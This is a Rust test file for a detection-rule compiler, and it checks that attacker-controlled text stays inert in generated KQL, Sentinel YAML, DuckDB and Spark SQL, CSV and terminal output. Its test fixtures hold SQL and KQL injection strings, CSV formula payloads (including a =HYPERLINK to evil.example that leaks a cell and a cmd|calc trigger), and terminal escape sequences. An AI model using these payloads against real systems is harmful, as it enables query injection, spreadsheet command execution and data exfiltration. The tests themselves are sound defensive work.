//! Hostile input (issue 25): text that attackers write into logs (user
//! agents, URIs, display names, `Type`s) and into rules (which arrive as pull
//! requests) stays data wherever sigcorr writes it. Compiled queries keep
//! rule text inside comments, literals and quoted names, as each target's
//! lexer reads them; CSV cells that a spreadsheet would run as formulas are
//! escaped; table output and rendered diagnostics show control characters
//! spelt out.
//!
//! The lexers below follow the targets' own grammars (Kusto's `KqlTokens.g4`,
//! DuckDB's PostgreSQL scanner, Spark's `SqlBaseLexer.g4`), so a payload that
//! would leave its comment or literal in the real engine leaves it here.

use serde_json::{Value, json};

use crate::common::{Run, Test};

/// Every trick at once: a newline and a statement for each target, a carriage
/// return and U+2028 (line breaks to Kusto's `//` comments and to YAML 1.1),
/// quotes of every kind, a block-comment end, NUL, ESC, a right-to-left
/// override, NEL, DEL, and a trailing backslash (a Spark `--` comment ending
/// in `\` continues on the next line).
pub(crate) const PAYLOAD: &str = "x\nCOPY (SELECT 'pwned' AS x) TO 'pwned.csv';\nlet MicrosoftGraphActivityLogs = datatable(a:int)[];\n-- \r// \u{2028}let pwned = 1;\u{2029} */ \" ' ` \u{0} \u{1b}[2J \u{202e} \u{85} \u{7f} end\\";

/// [`PAYLOAD`] in a comment: one line, each control, separator and bidi
/// character spelt out as `\n`, `\r` or `\u{..}`, and a space after the
/// trailing backslash.
const PAYLOAD_SPELT: &str = r#"x\nCOPY (SELECT 'pwned' AS x) TO 'pwned.csv';\nlet MicrosoftGraphActivityLogs = datatable(a:int)[];\n-- \r// \u{2028}let pwned = 1;\u{2029} */ " ' ` \u{0} \u{1b}[2J \u{202e} \u{85} \u{7f} end\ "#;

const ID: &str = "00000000-0000-4000-8000-0000000000f1";

/// `s` as a YAML double-quoted scalar: ASCII only, everything else `\uXXXX`.
fn yaml_str(s: &str) -> String {
    let mut out = String::from("\"");
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            ' '..='~' => out.push(c),
            c => out.push_str(&format!("\\u{:04X}", c as u32)),
        }
    }
    out.push('"');
    out
}

/// `s` as a string literal of the rule language: ASCII only, `\uXXXX` escapes.
fn expr_str(s: &str) -> String {
    // The rule language reads `\"`, `\\` and `\uXXXX` as YAML does.
    yaml_str(s)
}

/// Whether `c` may not appear raw in generated code or on a terminal: every
/// control character but `\n`, the line and paragraph separators, and the
/// bidi embeddings, overrides and isolates.
fn unsafe_char(c: char) -> bool {
    (c.is_control() && c != '\n')
        || matches!(c, '\u{2028}' | '\u{2029}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

fn assert_printable(what: &str, text: &str) {
    let bad: Vec<(usize, char)> = text.chars().enumerate().filter(|&(_, c)| unsafe_char(c)).collect();
    assert!(bad.is_empty(), "{what}: raw control characters {bad:?} in:\n{text}");
}

/// A two-source rule with [`PAYLOAD`] in every piece of text a rule has:
/// metadata, output names, string literals and a regex. (Expressions name
/// the sources of a correlation, so its aliases are identifiers; the SQL
/// rule below has a hostile alias.)
fn hostile_rule() -> String {
    let p = yaml_str(PAYLOAD);
    let filter_g = yaml_str(&format!(
        "RequestUri contains {} or UserAgent has {} or RequestUri matches regex {} or AppId in ({}, \"b\")",
        expr_str(PAYLOAD),
        expr_str("'); let x = 1; //"),
        expr_str(REGEX),
        expr_str(PAYLOAD),
    ));
    let filter_s = yaml_str(&format!("ServicePrincipalName != {}", expr_str(PAYLOAD)));
    format!(
        r#"title: {p}
id: {ID}
status: test
level: high
description: {p}
author: {p}
license: {p}
references:
  - "https://example.com/'%22;--*/"
tags:
  - attack.credential-access
  - attack.t1528
  - {p}
falsepositives:
  - {p}
correlation:
  sources:
    g: MicrosoftGraphActivityLogs
    s: AADServicePrincipalSignInLogs
  filter:
    g: {filter_g}
    s: {filter_s}
  join: g.SignInActivityId == s.UniqueTokenIdentifier
  mismatch: s.IPAddress != g.IPAddress
  output:
    {p}: g.RequestUri
    "Agent\n": g.UserAgent
    SigninIP: s.IPAddress
"#
    )
}

const REGEX: &str = "a\n'\"`b*/\u{2028}";

/// Runs `sigcorr ARGS` in `dir`.
fn sigcorr_in(dir: &std::path::Path, args: &[&str]) -> Run {
    let out = assert_cmd::Command::cargo_bin("sigcorr").unwrap().current_dir(dir).args(args).output().unwrap();
    Run {
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
        code: out.status.code().unwrap_or(-1),
    }
}

/// [`sigcorr_in`], whose stderr (diagnostics) holds no raw control character.
fn sigcorr(dir: &std::path::Path, args: &[&str]) -> Run {
    let run = sigcorr_in(dir, args);
    assert_printable(&format!("sigcorr {args:?}: stderr"), &run.stderr);
    run
}

/// The identifiers and keywords of `code`.
fn words(code: &str) -> Vec<&str> {
    code.split(|c: char| !(c.is_alphanumeric() || c == '_')).filter(|w| !w.is_empty()).collect()
}

// ---- lexers ------------------------------------------------------------------

/// A generated query as its target's lexer splits it.
#[derive(Debug, Default)]
struct Lexed {
    /// Everything outside comments, literals and quoted names.
    code: String,
    comments: Vec<String>,
    /// String literals and quoted names, with their quotes.
    quoted: Vec<String>,
}

/// Kusto (`KqlTokens.g4`): `//` comments end at `\n`, `\r`, U+2028, U+2029;
/// `"`/`'` strings with backslash escapes and `@"`/`@'` verbatim strings
/// may not hold a raw `\n` or `\r`; a backtick starts a multi-line string.
fn lex_kql(q: &str) -> Lexed {
    let cs: Vec<char> = q.chars().collect();
    let mut out = Lexed::default();
    let mut i = 0;
    while i < cs.len() {
        let c = cs[i];
        let next = cs.get(i + 1).copied();
        if c == '/' && next == Some('/') {
            let start = i;
            while i < cs.len() && !matches!(cs[i], '\n' | '\r' | '\u{2028}' | '\u{2029}') {
                i += 1;
            }
            out.comments.push(cs[start..i].iter().collect());
        } else if c == '"' || c == '\'' || (c == '@' && matches!(next, Some('"' | '\''))) {
            let start = i;
            let verbatim = c == '@';
            let quote = if verbatim { next.unwrap() } else { c };
            i += if verbatim { 2 } else { 1 };
            i = quoted_end(&cs, i, quote, !verbatim, q, "KQL string", start);
            let text: String = cs[start..i].iter().collect();
            assert!(!text.contains(['\n', '\r']), "a raw line break in a KQL string at {start}:\n{q}");
            out.quoted.push(text);
        } else {
            assert_ne!(c, '`', "a backtick in KQL code starts a multi-line string:\n{q}");
            out.code.push(c);
            i += 1;
        }
    }
    out
}

/// The value of a KQL string literal (as [`lex_kql`] found it).
fn kql_value(lit: &str) -> String {
    if let Some(rest) = lit.strip_prefix('@') {
        let q = rest.chars().next().unwrap();
        return rest[1..rest.len() - 1].replace(&format!("{q}{q}"), &q.to_string());
    }
    let body: Vec<char> = lit[1..lit.len() - 1].chars().collect();
    let mut out = String::new();
    let mut i = 0;
    while i < body.len() {
        if body[i] != '\\' {
            out.push(body[i]);
            i += 1;
            continue;
        }
        match body[i + 1] {
            'n' => out.push('\n'),
            'r' => out.push('\r'),
            't' => out.push('\t'),
            'u' => {
                let hex: String = body[i + 2..i + 6].iter().collect();
                out.push(char::from_u32(u32::from_str_radix(&hex, 16).unwrap()).unwrap());
                i += 4;
            }
            c @ ('\\' | '"' | '\'') => out.push(c),
            c => panic!("unexpected escape \\{c} in {lit}"),
        }
        i += 2;
    }
    out
}

#[derive(Clone, Copy, PartialEq)]
enum Sql {
    DuckDb,
    Spark,
}

/// DuckDB (PostgreSQL's scanner): `--` comments end at `\n` or `\r`; `/* */`
/// nest; `'` strings double their quote; `"` names double theirs.
/// Spark (`SqlBaseLexer.g4`): `--` comments end at `\n` or `\r` unless a
/// backslash precedes the `\n`; `'` and `"` strings take backslash escapes;
/// backtick names double their backtick.
/// A letter or digit right before a quote (`E'..'`, `r'..'`) or a `$`
/// would change how the literal is read: both are refused.
fn lex_sql(q: &str, dialect: Sql) -> Lexed {
    let cs: Vec<char> = q.chars().collect();
    let mut out = Lexed::default();
    let mut i = 0;
    while i < cs.len() {
        let c = cs[i];
        let next = cs.get(i + 1).copied();
        if c == '-' && next == Some('-') {
            let start = i;
            while i < cs.len() {
                if dialect == Sql::Spark && cs[i] == '\\' && cs.get(i + 1) == Some(&'\n') {
                    i += 2;
                    continue;
                }
                if matches!(cs[i], '\n' | '\r') {
                    break;
                }
                i += 1;
            }
            out.comments.push(cs[start..i].iter().collect());
        } else if c == '/' && next == Some('*') {
            let start = i;
            let mut depth = 0;
            loop {
                assert!(i + 1 < cs.len(), "unterminated block comment at {start}:\n{q}");
                if cs[i] == '/' && cs[i + 1] == '*' {
                    depth += 1;
                    i += 2;
                } else if cs[i] == '*' && cs[i + 1] == '/' {
                    depth -= 1;
                    i += 2;
                    if depth == 0 {
                        break;
                    }
                } else {
                    i += 1;
                }
            }
            out.comments.push(cs[start..i].iter().collect());
        } else if matches!(c, '\'' | '"') || (c == '`' && dialect == Sql::Spark) {
            assert!(!out.code.ends_with(|p: char| p.is_alphanumeric() || p == '_'), "a prefixed literal at {i}:\n{q}");
            let start = i;
            i += 1;
            let escapes = dialect == Sql::Spark && c != '`';
            i = quoted_end(&cs, i, c, escapes, q, "SQL literal", start);
            out.quoted.push(cs[start..i].iter().collect());
        } else {
            assert_ne!(c, '$', "a `$` in SQL code:\n{q}");
            if dialect == Sql::DuckDb {
                assert_ne!(c, '`', "a backtick in DuckDB code:\n{q}");
            }
            out.code.push(c);
            i += 1;
        }
    }
    out
}

/// `sigcorr compile --target TARGET r.yml` in the case's directory.
fn compile(t: &Test, target: &str) -> Run {
    sigcorr(t.dir.path(), &["compile", "--target", target, "r.yml"])
}

// ---- compile -----------------------------------------------------------------

/// The header every target writes: the title, then which rule it is.
fn header(marker: &str, target: &str) -> [String; 2] {
    [format!("{marker} {PAYLOAD_SPELT}"), format!("{marker} sigcorr rule {ID} (level high), compiled to {target}")]
}

#[test]
fn kql_keeps_rule_text_in_comments_and_literals() {
    let t = Test::new().file("r.yml", hostile_rule());
    let run = compile(&t, "kql");
    run.code(0);
    let q = &run.stdout;
    assert_printable("kql", q);
    let lexed = lex_kql(q);
    assert_eq!(lexed.comments, header("//", "kql"), "{q}");
    // One query, no statements of its own: no `let`, no `;`, no payload.
    assert!(!lexed.code.contains(';'), "a `;` outside comments and literals:\n{}", lexed.code);
    for word in ["let", "datatable", "pwned", "COPY"] {
        assert!(!words(&lexed.code).contains(&word), "`{word}` outside comments and literals:\n{}", lexed.code);
    }
    // The literals hold the rule's text exactly.
    let values: Vec<String> = lexed.quoted.iter().map(|l| kql_value(l)).collect();
    assert!(values.iter().filter(|v| *v == PAYLOAD).count() >= 3, "the payload literal and output name: {values:?}");
    assert!(values.iter().any(|v| v == REGEX), "the regex: {values:?}");
    assert!(values.contains(&"Agent\n".to_string()), "{values:?}");
    assert!(values.contains(&"'); let x = 1; //".to_string()), "{values:?}");
}

#[test]
fn sentinel_yaml_round_trips_rule_text() {
    let t = Test::new().file("r.yml", hostile_rule());
    let run = compile(&t, "sentinel");
    run.code(0);
    let y = &run.stdout;
    // No raw NEL, U+2028 or U+2029 either: YAML 1.1 parsers break lines there.
    assert_printable("sentinel", y);
    let comments: Vec<&str> = y.lines().filter(|l| l.trim_start().starts_with('#')).collect();
    assert_eq!(comments, header("#", "sentinel"), "{y}");
    let doc: Value = serde_saphyr::from_str(y).unwrap_or_else(|e| panic!("not YAML: {e}\n{y}"));
    let mut keys: Vec<&str> = doc.as_object().unwrap().keys().map(String::as_str).collect();
    keys.sort();
    assert_eq!(
        keys,
        [
            "description",
            "entityMappings",
            "id",
            "kind",
            "name",
            "query",
            "queryFrequency",
            "queryPeriod",
            "relevantTechniques",
            "requiredDataConnectors",
            "severity",
            "tactics",
            "triggerOperator",
            "triggerThreshold",
            "version"
        ],
        "{y}"
    );
    assert_eq!(doc["id"], json!(ID));
    assert_eq!(doc["name"], json!(PAYLOAD));
    assert_eq!(doc["description"], json!(PAYLOAD));
    assert_eq!(doc["tactics"], json!(["CredentialAccess"]));
    assert_eq!(doc["relevantTechniques"], json!(["T1528"]));
    // The query is the kql target's, without its header.
    let kql = compile(&t, "kql").stdout;
    let query: Vec<&str> = kql.lines().skip(2).collect();
    assert_eq!(doc["query"], json!(query.join("\n")), "{y}");
}

/// [`hostile_rule`] for SQL, titled `title`: names hold quotes, backticks,
/// comment markers and statements, but no control characters (refused, see
/// below).
pub(crate) fn hostile_sql_rule(title: &str) -> String {
    format!(
        r#"title: {title}
id: {ID}
level: high
description: {p}
author: {p}
falsepositives: [{p}]
correlation:
  sources:
    {a}: MicrosoftGraphActivityLogs
  filter:
    {a}: {filter}
  output:
    {uri}: RequestUri
    {agent}: UserAgent
"#,
        title = yaml_str(title),
        p = yaml_str(PAYLOAD),
        a = yaml_str("g\"; COPY (SELECT 1) TO 'pwned-alias.csv'; --`'"),
        filter = yaml_str(&format!(
            "UserAgent == {} or RequestUri contains {} or AppId in ({}, \"b\\\\'\")",
            expr_str(PAYLOAD),
            expr_str("'); COPY (SELECT 1) TO 'pwned-literal.csv'; --"),
            expr_str(PAYLOAD)
        )),
        uri = yaml_str("U\"ri'; COPY (SELECT 1) TO 'pwned-output.csv'; --"),
        agent = yaml_str("Agent` */ --"),
    )
}

#[test]
fn sql_keeps_rule_text_in_comments_and_literals() {
    for (target, dialect) in [("duckdb", Sql::DuckDb), ("spark-sql", Sql::Spark)] {
        let t = Test::new().file("r.yml", hostile_sql_rule(PAYLOAD));
        let run = compile(&t, target);
        run.code(0);
        let q = &run.stdout;
        assert_printable(target, q);
        let lexed = lex_sql(q, dialect);
        let [title, which] = header("--", target);
        assert_eq!(lexed.comments[..2], [title, which], "{target}:\n{q}");
        assert_eq!(lexed.comments.len(), 4, "{target}: the header's comments only:\n{q}");
        assert!(lexed.comments.iter().all(|c| !c.contains(['\n', '\r'])), "{target}: {:?}", lexed.comments);
        // Exactly one statement.
        let code = lexed.code.trim_end();
        assert_eq!(code.matches(';').count(), 1, "{target}: one statement:\n{code}");
        assert!(code.ends_with(';'), "{target}:\n{code}");
        for word in ["COPY", "pwned", "DROP"] {
            assert!(!words(code).contains(&word), "{target}: `{word}` outside comments and literals:\n{code}");
        }
    }
}

#[test]
fn sql_refuses_names_with_control_characters() {
    let t = Test::new().file("r.yml", hostile_rule());
    for target in ["duckdb", "spark-sql"] {
        let run = compile(&t, target);
        run.code(2);
        assert_eq!(run.stdout, "", "{target}: nothing is written");
        assert!(run.stderr.contains("error[E800]"), "{target}: {}", run.stderr);
        assert!(run.stderr.contains(r"\u{2028}let pwned"), "{target}: names the output column: {}", run.stderr);
    }
}

#[test]
fn table_names_from_definitions_are_quoted_or_refused() {
    let quoted = "Evil\"`]'; COPY (SELECT 1) TO 'pwned.csv'; --";
    let broken = "Evil\n| take 0";
    let table = |name: &str| format!("table: {}\ncolumns:\n  IPAddress: string\n", yaml_str(name));
    let rule = |name: &str| {
        format!(
            "title: t\nid: {ID}\nlevel: high\ncorrelation:\n  sources:\n    a: {}\n  filter:\n    a: IPAddress == \"1\"\n  output:\n    Ip: IPAddress\n",
            yaml_str(name)
        )
    };
    let compile = |name: &str, target: &str| {
        let t = Test::new().file("tables/t.yml", table(name)).file("r.yml", rule(name));
        sigcorr(t.dir.path(), &["compile", "--target", target, "--tables", "tables", "r.yml"])
    };
    for name in [quoted, broken] {
        let run = compile(name, "kql");
        run.code(0);
        assert_printable("kql", &run.stdout);
        let lexed = lex_kql(&run.stdout);
        assert!(!words(&lexed.code).iter().any(|w| ["take", "COPY", "pwned"].contains(w)), "{}", run.stdout);
        assert!(lexed.quoted.iter().any(|l| kql_value(l) == name), "{:?}", lexed.quoted);
        // Sentinel knows no connector for it: refused, its name spelt out.
        let run = compile(name, "sentinel");
        run.code(2);
        assert!(run.stderr.contains("error[E800]"), "{}", run.stderr);
    }
    for (target, dialect) in [("duckdb", Sql::DuckDb), ("spark-sql", Sql::Spark)] {
        let run = compile(quoted, target);
        run.code(0);
        let lexed = lex_sql(&run.stdout, dialect);
        assert_eq!(lexed.code.matches(';').count(), 1, "{target}:\n{}", run.stdout);
        assert!(!words(&lexed.code).iter().any(|w| ["COPY", "pwned"].contains(w)), "{target}:\n{}", run.stdout);
        let run = compile(broken, target);
        run.code(2);
        assert!(run.stderr.contains("error[E800]") && run.stderr.contains(r"Evil\n| take 0"), "{}", run.stderr);
    }
}

#[test]
fn a_payload_in_the_id_is_refused() {
    let rule = hostile_sql_rule(PAYLOAD).replace(&format!("id: {ID}"), &format!("id: {}", yaml_str(PAYLOAD)));
    let t = Test::new().file("r.yml", rule);
    for target in ["kql", "sentinel", "duckdb", "spark-sql"] {
        let run = compile(&t, target);
        run.code(2);
        assert_eq!(run.stdout, "", "{target}");
        assert!(run.stderr.contains("is not a UUID"), "{target}: {}", run.stderr);
    }
}

// ---- CSV -----------------------------------------------------------------------

const NOW: &str = "2026-07-16T12:00:00Z";

fn output_rule(title: &str, outputs: &str) -> String {
    format!(
        "title: {}\nid: {ID}\nlevel: low\ncorrelation:\n  sources:\n    a: MicrosoftGraphActivityLogs\n  output:\n{outputs}",
        yaml_str(title)
    )
}

#[test]
fn csv_cells_that_start_a_formula_are_escaped() {
    let rule = output_rule(
        "=cmd|' /C calc'!A0 title",
        "    \"=Uri\": a.RequestUri\n    Agent: a.UserAgent\n    Status: a.ResponseStatusCode\n    App: a.AppId\n",
    );
    let graph = |uri: &str, agent: &str, status: Value, app: &str| json!({"Type": "MicrosoftGraphActivityLogs", "RequestUri": uri, "UserAgent": agent, "ResponseStatusCode": status, "AppId": app});
    let t = Test::new().file("r.yml", rule).records(
        "a.json",
        &[
            graph("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", json!(-5), "-5"),
            graph("@SUM(1+1)*cmd|' /C calc'!A0", "\tTAB", json!(200), "\r=1+1"),
            graph("-1+2", "-1.5e3", json!(0), "+7"),
            graph("https://graph.microsoft.com/v1.0/users", "a=b", json!(200), "app"),
        ],
    );
    let run = sigcorr_in(t.dir.path(), &["run", "--now", NOW, "--format", "csv", "--rules", "r.yml", "a.json"]);
    run.code(0);
    let want = format!(
        "rule_id,rule_title,level,'=Uri,Agent,Status,App,evidence\n\
         {ID},'=cmd|' /C calc'!A0 title,low,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",'+cmd|' /C calc'!A0,-5,-5,a.json:1\n\
         {ID},'=cmd|' /C calc'!A0 title,low,'@SUM(1+1)*cmd|' /C calc'!A0,'\tTAB,200,\"'\r=1+1\",a.json:2\n\
         {ID},'=cmd|' /C calc'!A0 title,low,'-1+2,-1.5e3,0,+7,a.json:3\n\
         {ID},'=cmd|' /C calc'!A0 title,low,https://graph.microsoft.com/v1.0/users,a=b,200,app,a.json:4\n"
    );
    assert_eq!(run.stdout, want);
}

// ---- table and diagnostics ---------------------------------------------------------

const FORGED: &str = "Evil\u{1b}[2J\nFAKE: 0 alerts";

#[test]
fn table_output_spells_out_control_characters() {
    let value = format!("{FORGED}\u{7}\u{8}\r\u{9b}31m\u{202e}\u{2028}x\u{7f}\t");
    let t = Test::new()
        .file("r.yml", output_rule(FORGED, "    Uri: a.RequestUri\n"))
        .records("a.json", &[json!({"Type": "MicrosoftGraphActivityLogs", "RequestUri": value})]);
    let run = sigcorr_in(t.dir.path(), &["run", "--now", NOW, "--format", "table", "--rules", "r.yml", "a.json"]);
    run.code(0);
    assert_printable("table", &run.stdout);
    let cell = r"Evil\u{1b}[2J\nFAKE: 0 alerts\u{7}\u{8}\r\u{9b}31m\u{202e}\u{2028}x\u{7f}\t";
    let want = format!(
        "Evil\\u{{1b}}[2J\\nFAKE: 0 alerts [low] ({ID}): 1 alert\nUri\n{}\n{cell}\n\n",
        "-".repeat(cell.chars().count())
    );
    assert_eq!(run.stdout, want);
}

#[test]
fn rendered_diagnostics_spell_out_control_characters() {
    let name = "d/r\u{1b}[31m\n.yml";
    let rule = format!(
        "title: t\nid: {ID}\nlevel: {}\ncorrelation:\n  sources:\n    a: {}\n  output:\n    X: a.X\n",
        yaml_str("high\u{1b}]0;x\u{7}"),
        yaml_str(FORGED)
    );
    // A raw ESC in the file itself: not YAML, and the line is shown.
    let t = Test::new().file(name, rule).file("e/raw.yml", "title: t\n# \u{1b}[2J\u{202e} comment\n");
    for dir in ["d", "e"] {
        let run = sigcorr(t.dir.path(), &["lint", dir]);
        assert_printable("lint stdout", &run.stdout);
        assert_printable("lint stderr", &run.stderr);
        if dir == "d" {
            assert!(
                run.stdout.contains(r"d/r\u{1b}[31m\n.yml:3:8: error[E010]: invalid `level` `high\u{1b}]0;x\u{7}`"),
                "{}",
                run.stdout
            );
            assert!(run.stdout.contains(r"unknown table `Evil\u{1b}[2J\nFAKE: 0 alerts`"), "{}", run.stdout);
        } else {
            assert!(run.stdout.contains(r"2 | # \u{1b}[2J\u{202e} comment"), "{}", run.stdout);
        }
    }
}

/// The index past the closing `quote` of a quoted text whose body starts at
/// `i`: with `escapes`, a backslash escapes the next character; without, a
/// doubled quote stands for one. Panics (naming `what` at `start` in `q`)
/// when it does not close.
fn quoted_end(cs: &[char], mut i: usize, quote: char, escapes: bool, q: &str, what: &str, start: usize) -> usize {
    loop {
        let ch = *cs.get(i).unwrap_or_else(|| panic!("unterminated {what} at {start}:\n{q}"));
        let escaped = escapes && ch == '\\';
        let doubled = !escapes && ch == quote && cs.get(i + 1) == Some(&quote);
        if escaped || doubled {
            i += 2;
        } else if ch == quote {
            return i + 1;
        } else {
            i += 1;
        }
    }
}
